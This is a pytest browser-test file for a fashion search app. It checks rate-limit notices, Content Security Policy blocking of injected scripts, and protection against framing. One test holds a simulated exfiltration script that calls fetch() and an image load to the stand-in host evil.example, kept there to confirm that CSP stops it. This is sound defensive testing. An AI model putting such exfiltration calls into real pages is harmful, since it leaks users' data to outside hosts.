"""What the page says where a guard refuses what it asks."""

import pytest
from starlette.testclient import TestClient

from fashion_search.guard.rate import Meter, Rate
from tests.app_kit import shared_app
from tests.guard_kit import echo_app
from tests.page_kit import PATIENCE_MS, Browser, Route, Shop, expect

pytestmark = pytest.mark.browser


@pytest.mark.parametrize("door", ["queue/join", "upload"])
def test_a_refusal_for_asking_too_much_is_a_notice(browser: Browser, door: str) -> None:
    client = TestClient(Rate(echo_app(), Meter(1)))
    client.post("/")
    refused = client.post("/")
    assert refused.status_code == 429
    app = shared_app()
    page = browser.new_page()  # its console may tell of refused requests
    page.set_default_timeout(PATIENCE_MS)
    own = Shop(page, app)
    page.goto(app.url)
    own.search("red dress")
    page.route(
        f"**/gradio_api/{door}*",
        lambda route: route.fulfill(status=429, headers=dict(refused.headers), body=refused.content),
    )
    if door == "upload":
        own.upload(own.picture(6))
    else:
        own.words.fill("blue hat")
        own.words.press("Enter")
    expect(own.toast.filter(has_text="Too many requests: try again")).to_be_visible()
    page.close()


@pytest.mark.parametrize("guarded", [True, False])
def test_a_script_that_got_in_can_tell_no_other_host(browser: Browser, guarded: bool) -> None:
    page = browser.new_context(bypass_csp=not guarded).new_page()
    told: list[str] = []

    def listen(route: Route) -> None:
        told.append(route.request.url)
        route.fulfill(body="")

    page.route("https://evil.example/**", listen)
    page.goto(shared_app().url + "/docs")
    page.evaluate(
        """() => Promise.allSettled([
          fetch('https://evil.example/fetched?words', {mode: 'no-cors'}),
          new Promise(done => Object.assign(new Image(), {onload: done, onerror: done, src: 'https://evil.example/shown?words'})),
        ])"""
    )
    assert len(told) == (0 if guarded else 2)
    page.context.close()


@pytest.mark.parametrize("guarded", [True, False])
def test_another_site_cannot_show_the_page_in_a_frame(browser: Browser, guarded: bool) -> None:
    page = browser.new_page()
    shown = shared_app().url + "/docs"

    def unguarded(route: Route) -> None:
        answer = route.fetch()
        names = set(answer.headers) - {"content-security-policy"}
        route.fulfill(response=answer, headers={name: answer.headers[name] for name in names})

    if not guarded:
        page.route(shown, unguarded)
    frame = f"<iframe src='{shown}'></iframe>"
    page.route("http://127.0.0.1:1/", lambda route: route.fulfill(body=frame, content_type="text/html"))
    page.goto("http://127.0.0.1:1/")
    heading = page.frame_locator("iframe").get_by_role("heading", level=1)
    assert heading.count() == (0 if guarded else 1)
    page.close()
